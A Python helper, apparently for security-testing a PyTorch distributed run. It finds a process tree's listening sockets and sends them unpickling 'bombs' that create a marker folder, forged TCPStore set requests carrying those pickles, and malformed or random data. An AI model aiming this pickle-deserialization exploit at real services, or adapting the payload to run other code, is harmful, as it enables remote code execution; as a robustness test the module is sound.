"""Programs that do not belong to a run: what they find of it on the network, and what they send there."""

from __future__ import annotations

import contextlib
import os
import pickle
import random
import socket
import struct
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import psutil

KEYS = ("torch.rendezvous.run", "rendezvous/run", "default_pg/0//0", "0//cpu//0/0", "store_based_barrier_key:1")
"""Keys of torch's stores."""
VALIDATE, SET = struct.pack("=BI", 0, 0x3C85F7CE), struct.pack("=B", 1)
"""Requests of torch's TCPStore."""


class Bomb:
    """Creates a folder when it is unpickled."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self._folder),)


def children(pid: int) -> list[int]:
    """The processes below this one."""
    return [child.pid for child in psutil.Process(pid).children(recursive=True)]


def listening(pids: Iterable[int]) -> list[tuple[str, int, socket.SocketKind]]:
    """Address, port and kind of every socket of these processes that anybody may send to."""
    found = set()
    for pid in pids:
        with contextlib.suppress(psutil.NoSuchProcess):
            for one in psutil.Process(pid).net_connections("inet"):
                if one.status == psutil.CONN_LISTEN or (one.type == socket.SOCK_DGRAM and not one.raddr):
                    found.add((one.laddr.ip, one.laddr.port, socket.SocketKind(one.type)))
    return sorted(found)


def attack(places: Iterable[tuple[str, int, socket.SocketKind]], marker: Path, seed: int = 0) -> None:
    """Send pickles that create `marker`, and much else, to each place. `places`: as `listening` returns them."""
    bomb, draw = pickle.dumps(Bomb(marker)), random.Random(seed)
    sets = [SET + struct.pack(f"=Q{len(key)}sQ", len(key), key.encode(), len(bomb)) + bomb for key in KEYS]
    streams = [bomb, VALIDATE + b"".join(sets), b"[" * 60000, struct.pack("=q", 0), draw.randbytes(300), b""]
    datagrams = [bomb, b"[" * 60000, *(draw.randbytes(draw.randrange(300)) for _ in range(300))]
    for address, port, kind in places:
        for content in streams if kind == socket.SOCK_STREAM else datagrams:
            with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as stranger:
                stranger.settimeout(5)
                with contextlib.suppress(OSError):  # it may hang up in between
                    stranger.connect((address, port))
                    stranger.sendall(content)
